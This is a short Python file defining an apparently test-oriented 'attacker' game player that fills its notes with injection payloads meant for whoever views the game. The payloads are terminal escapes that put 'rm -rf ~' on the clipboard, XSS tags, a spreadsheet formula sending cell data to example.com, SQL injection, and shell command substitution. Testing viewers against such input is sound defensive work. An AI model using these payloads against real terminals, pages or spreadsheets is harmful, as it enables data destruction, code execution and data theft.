"""Puts commands for terminals, pages and tables into its notes, for whoever looks at the game."""

import attacker

NOTES = (
    "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.com/?"&A1)',
    "\x00\x01\x02\r\n\u2028\u2029\u0085",
    "\u202e\u2066drawkcab\u200b\ufeff",
    "'; DROP TABLE games; --",
    "%s%n{0.__class__}$(id)`id`",
    "[bold red]markup[/] \\u0000 \U0001f4a9" * 1_000,
)
number = 0


def answer(question: attacker.Message) -> attacker.Message:
    global number
    number += 1
    return {**attacker.first_option(question), "note": NOTES[number % len(NOTES)]}


attacker.play(answer=answer, harmless=True)
